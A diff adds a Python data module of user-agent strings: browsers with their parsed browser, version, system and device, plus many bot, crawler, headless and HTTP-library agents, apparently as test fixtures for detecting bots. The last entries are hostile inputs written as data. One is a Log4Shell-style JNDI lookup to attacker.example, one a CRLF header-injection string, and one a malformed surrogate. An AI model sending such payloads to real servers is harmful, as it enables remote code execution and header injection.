@@ -1,0 +1,210 @@
+"""Real user-agent strings: browsers with what they are, and bots of every family."""
+
+from __future__ import annotations
+
+_WINDOWS = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
+_MAC = "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) "
+_LINUX = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) "
+_ANDROID = "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) "
+_IPHONE = "Mozilla/5.0 (iPhone; CPU iPhone OS 18_7 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
+_IPAD = "Mozilla/5.0 (iPad; CPU OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
+
+AGENTS: tuple[tuple[str, tuple[str, str, str, str, str]], ...] = (
+    (_WINDOWS + "Chrome/154.0.0.0 Safari/537.36", ("Chrome", "154", "Windows", "10", "Desktop")),
+    (_WINDOWS + "Chrome/154.0.0.0 Safari/537.36 Edg/154.0.0.0", ("Edge", "154", "Windows", "10", "Desktop")),
+    (_WINDOWS + "Chrome/120.0.0.0 Safari/537.36 OPR/106.0.0.0", ("Opera", "106", "Windows", "10", "Desktop")),
+    (
+        "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:156.0) Gecko/20100101 Firefox/156.0",
+        ("Firefox", "156", "Windows", "10", "Desktop"),
+    ),
+    (
+        "Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; Tablet PC 2.0; rv:11.0) like Gecko",
+        ("Internet Explorer", "11", "Windows", "7", "Desktop"),
+    ),
+    (_MAC + "Chrome/145.0.0.0 Safari/537.36", ("Chrome", "145", "macOS", "10.15", "Desktop")),
+    (
+        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) "
+        "Version/26.6.2 Safari/605.1.15",
+        ("Safari", "26", "macOS", "10.15", "Desktop"),
+    ),
+    (
+        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10.15; rv:156.0) Gecko/20100101 Firefox/156.0",
+        ("Firefox", "156", "macOS", "10.15", "Desktop"),
+    ),
+    (_LINUX + "Chrome/146.0.0.0 Safari/537.36", ("Chrome", "146", "Linux", "", "Desktop")),
+    (
+        "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:154.0) Gecko/20100101 Firefox/154.0",
+        ("Firefox", "154", "Ubuntu", "", "Desktop"),
+    ),
+    (
+        "Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) AppleWebKit/537.36 (KHTML, like Gecko) "
+        "Chrome/124.0.0.0 Safari/537.36",
+        ("Chrome", "124", "ChromeOS", "14541.0", "Desktop"),
+    ),
+    (_ANDROID + "Chrome/153.0.0.0 Mobile Safari/537.36", ("Chrome", "153", "Android", "10", "Mobile")),
+    (_ANDROID + "Chrome/153.0.0.0 Safari/537.36", ("Chrome", "153", "Android", "10", "Tablet")),
+    (
+        _ANDROID + "SamsungBrowser/25.0 Chrome/121.0.0.0 Mobile Safari/537.36",
+        ("Samsung Internet", "25", "Android", "10", "Mobile"),
+    ),
+    (
+        "Mozilla/5.0 (Android 16; Mobile; rv:156.0) Gecko/156.0 Firefox/156.0",
+        ("Firefox", "156", "Android", "16", "Mobile"),
+    ),
+    (
+        "Mozilla/5.0 (Android 14; Tablet; rv:126.0) Gecko/126.0 Firefox/126.0",
+        ("Firefox", "126", "Android", "14", "Tablet"),
+    ),
+    (
+        "Mozilla/5.0 (Linux; Android 15; V2302 Build/AP3A.240905.015; wv) AppleWebKit/537.36 (KHTML, like Gecko) "
+        "Version/4.0 Chrome/153.0.8010.36 Mobile Safari/537.36",
+        ("Android WebView", "153", "Android", "15", "Mobile"),
+    ),
+    (_IPHONE + "Version/26.6.1 Mobile/15E148 Safari/604.1", ("Safari", "26", "iOS", "18.7", "Mobile")),
+    (_IPHONE + "CriOS/126.0.6478.54 Mobile/15E148 Safari/604.1", ("Chrome", "126", "iOS", "18.7", "Mobile")),
+    (_IPHONE + "FxiOS/127.0 Mobile/15E148 Safari/605.1.15", ("Firefox", "127", "iOS", "18.7", "Mobile")),
+    (
+        _IPHONE + "Mobile/15E148 [FBAN/FBIOS;FBAV/470.0.0.36.105;FBDV/iPhone14,2;FBSN/iOS;FBSV/18.7]",
+        ("Facebook", "470", "iOS", "18.7", "Mobile"),
+    ),
+    (_IPHONE + "GSA/316.0.632379105 Mobile/15E148 Safari/604.1", ("Google App", "316", "iOS", "18.7", "Mobile")),
+    (_IPAD + "Version/17.5 Mobile/15E148 Safari/604.1", ("Safari", "17", "iOS", "17.5", "Tablet")),
+    (
+        "Opera/9.80 (Android; Opera Mini/36.2.2254/119.132; U; id) Presto/2.12.423 Version/12.16",
+        ("Opera Mini", "36", "Android", "", "Mobile"),
+    ),
+    (
+        "Mozilla/5.0 (Linux; Android 9; KFMAWI) AppleWebKit/537.36 (KHTML, like Gecko) Silk/120.3.1 "
+        "like Chrome/120.0.0.0 Safari/537.36",
+        ("Amazon Silk", "120", "Android", "9", "Tablet"),
+    ),
+    (
+        "Mozilla/5.0 (SMART-TV; LINUX; Tizen 6.0) AppleWebKit/537.36 (KHTML, like Gecko) "
+        "76.0.3809.146/6.0 TV Safari/537.36",
+        ("Safari", "", "Tizen", "6.0", "TV"),
+    ),
+    (
+        "Mozilla/5.0 (Web0S; Linux/SmartTV) AppleWebKit/537.36 (KHTML, like Gecko) "
+        "Chrome/94.0.4606.128 Safari/537.36 WebAppManager",
+        ("Chrome", "94", "webOS", "", "TV"),
+    ),
+    (
+        "Mozilla/5.0 (Linux; Android 9; BRAVIA 4K UR2 Build/PTT1) AppleWebKit/537.36 (KHTML, like Gecko) "
+        "Chrome/111.0.5563.116 Safari/537.36",
+        ("Chrome", "111", "Android", "9", "TV"),
+    ),
+    (
+        "Mozilla/5.0 (Windows NT 10.0; Win64; x64; Xbox; Xbox One) AppleWebKit/537.36 (KHTML, like Gecko) "
+        "Chrome/120.0.0.0 Safari/537.36 Edge/44.18363.8131",
+        ("Edge", "44", "Windows", "10", "TV"),
+    ),
+)
+"""A string and its browser, major version, system, its version, and kind of device."""
+
+BROWSERS: tuple[str, ...] = (
+    *(user_agent for user_agent, _ in AGENTS),
+    "Mozilla/5.0 (Linux; arm_64; Android 12; CTR-L81) AppleWebKit/537.36 (KHTML, like Gecko) "
+    "Chrome/150.0.7871.119 YaBrowser/26.8.3.119.00 Mobile Safari/537.36",
+    "Mozilla/5.0 (Linux; U; Android 8.1.0; zh-cn; MI 8 Build/OPM1.171019.011) AppleWebKit/537.36 (KHTML, like Gecko) "
+    "Version/4.0 Chrome/57.0.2987.108 Mobile Safari/537.36",
+    "Mozilla/5.0 (Linux; Android 9; CUBOT X19) AppleWebKit/537.36 (KHTML, like Gecko) "
+    "Chrome/96.0.4664.45 Mobile Safari/537.36",
+    "Mozilla/5.0 (Linux; Android 10; CUBOT_P30) AppleWebKit/537.36 (KHTML, like Gecko) "
+    "Chrome/96.0.4664.45 Mobile Safari/537.36",
+    "Mozilla/5.0 (Linux; Android 12; ruby Build/SP1A) AppleWebKit/537.36 (KHTML, like Gecko) "
+    "Chrome/120.0.0.0 Mobile Safari/537.36",
+    "Mozilla/5.0 (Linux; Android 14; SM-S918B Build/UP1A; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 "
+    "Chrome/124.0 Mobile Safari/537.36 musical_ly_2023404050 JsSdk/1.0 BytedanceWebview/d8a21c6",
+    "UCWEB/2.0 (MIDP-2.0; U; Adr 6.0.1; en-US; Redmi_4A) U2/1.0.0 UCBrowser/11.0.0.1016 U2/1.0.0 Mobile",
+    "Mozilla/5.0 (Windows NT 6.1; WOW64; rv:38.0) Gecko/20100101 Firefox/38.0 FirePHP/0.7.4",
+    _WINDOWS + "Slack/4.36.140 Chrome/120.0.6099.291 Electron/28.3.1 Safari/537.36",
+    _WINDOWS + "Chrome/118.0.0.0 Safari/537.36 Vivaldi/6.4.3160.34",
+    _IPHONE + "Version/17.0 EdgiOS/124.0.2478.50 Mobile/15E148 Safari/605.1.15",
+    _IPHONE + "Mobile/15E148 Instagram 331.0.3.29.98 (iPhone14,5; iOS 18_7; en_GB; en-GB; scale=3.00)",
+    _ANDROID + "Version/4.0 Chrome/124.0.6367.82 Mobile Safari/537.36 [LinkedInApp]",
+    _ANDROID + "UCBrowser/13.4.0.1306 Mobile Safari/537.36",
+    "Mozilla/5.0 (X11; Fedora; Linux x86_64; rv:115.0) Gecko/20100101 Firefox/115.0",
+    "Mozilla/5.0 (X11; FreeBSD amd64; rv:121.0) Gecko/20100101 Firefox/121.0",
+)
+
+BOTS: tuple[str, ...] = (
+    "",
+    "-",
+    "Mozilla/5.0",
+    "test",
+    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
+    "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) "
+    "Chrome/120.0.6099.109 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
+    "Googlebot-Image/1.0",
+    "AdsBot-Google (+http://www.google.com/adsbot.html)",
+    "Mediapartners-Google",
+    "FeedFetcher-Google; (+http://www.google.com/feedfetcher.html)",
+    "Mozilla/5.0 (compatible; Google-InspectionTool/1.0;)",
+    "GoogleOther",
+    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
+    _WINDOWS + "Chrome/116.0.1938.76 Safari/537.36 BingPreview/1.0b",
+    "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)",
+    "Mozilla/5.0 (compatible; Baiduspider/2.0; +http://www.baidu.com/search/spider.html)",
+    "DuckDuckBot/1.1; (+http://duckduckgo.com/duckduckbot.html)",
+    "Mozilla/5.0 (compatible; Yahoo! Slurp; http://help.yahoo.com/help/us/ysearch/slurp)",
+    "Mozilla/5.0 (compatible; SeznamBot/4.0; +http://napoveda.seznam.cz/seznambot-intro/)",
+    "Sogou web spider/4.0(+http://www.sogou.com/docs/help/webmasters.htm#07)",
+    "Mozilla/5.0 (compatible; PetalBot;+https://webmaster.petalsearch.com/site/petalbot)",
+    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_5) AppleWebKit/605.1.15 (KHTML, like Gecko) "
+    "Version/13.1.1 Safari/605.1.15 (Applebot/0.1; +http://www.apple.com/go/applebot)",
+    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)",
+    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko); compatible; ChatGPT-User/1.0; +https://openai.com/bot",
+    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; ClaudeBot/1.0; +claudebot@anthropic.com)",
+    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; PerplexityBot/1.0; "
+    "+https://perplexity.ai/perplexitybot)",
+    "CCBot/2.0 (https://commoncrawl.org/faq/)",
+    "Mozilla/5.0 (Linux; Android 5.0) AppleWebKit/537.36 (KHTML, like Gecko) Mobile Safari/537.36 "
+    "(compatible; Bytespider; spider-feedback@bytedance.com)",
+    "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
+    "Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)",
+    "Mozilla/5.0 (compatible; MJ12bot/v1.4.8; http://mj12bot.com/)",
+    "Mozilla/5.0 (compatible; DotBot/1.2; +https://opensiteexplorer.org/dotbot; help@moz.com)",
+    "Screaming Frog SEO Spider/19.2",
+    "Mozilla/5.0 (compatible; DataForSeoBot/1.0; +https://dataforseo.com/dataforseo-bot)",
+    "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
+    "meta-externalagent/1.1 (+https://developers.facebook.com/docs/sharing/webmasters/crawler)",
+    "Twitterbot/1.0",
+    "LinkedInBot/1.0 (compatible; Mozilla/5.0; Apache-HttpClient +http://www.linkedin.com)",
+    "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
+    "TelegramBot (like TwitterBot)",
+    "WhatsApp/2.23.20.0",
+    "Mozilla/5.0 (compatible; Discordbot/2.0; +https://discordapp.com)",
+    "Pinterestbot/1.0 (+http://www.pinterest.com/bot.html)",
+    "Mozilla/5.0 (Windows NT 6.1; WOW64) SkypeUriPreview Preview/0.5",
+    _LINUX + "HeadlessChrome/120.0.6099.28 Safari/537.36",
+    "Mozilla/5.0 (Unknown; Linux x86_64) AppleWebKit/538.1 (KHTML, like Gecko) PhantomJS/2.1.1 Safari/538.1",
+    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:126.0) Gecko/20100101 Firefox/126.0 selenium webdriver",
+    _MAC + "Chrome/98.0.4695.0 Safari/537.36 Chrome-Lighthouse",
+    _LINUX + "Chrome/124.0.0.0 Safari/537.36 PTST/240501.173422",
+    _LINUX + "Chrome/133.0.0.0 Safari/537.36 (Checkly, https://www.checklyhq.com)",
+    "curl/8.5.0",
+    "Wget/1.21.4",
+    "python-requests/2.31.0",
+    "Python-urllib/3.11",
+    "Python/3.11 aiohttp/3.9.1",
+    "python-httpx/0.27.0",
+    "Scrapy/2.11.0 (+https://scrapy.org)",
+    "Go-http-client/2.0",
+    "Java/17.0.9",
+    "Apache-HttpClient/4.5.14 (Java/17.0.9)",
+    "okhttp/4.12.0",
+    "axios/1.6.7",
+    "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)",
+    "PostmanRuntime/7.36.3",
+    "GuzzleHttp/7",
+    "Ruby, Faraday v2.7.4",
+    "libwww-perl/6.67",
+    "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)",
+    "Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)",
+    "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)",
+    "Mozilla/5.0 zgrab/0.x",
+    "sqlmap/1.7.2#stable (https://sqlmap.org)",
+    "${jndi:ldap://attacker.example/a} Mozilla/5.0 (Windows NT 10.0)",
+    "Mozilla/5.0 (Windows NT 10.0)\r\nX-Injected: yes",
+    "Mozilla/5.0 (Windows NT 10.0) \ud800",
+)
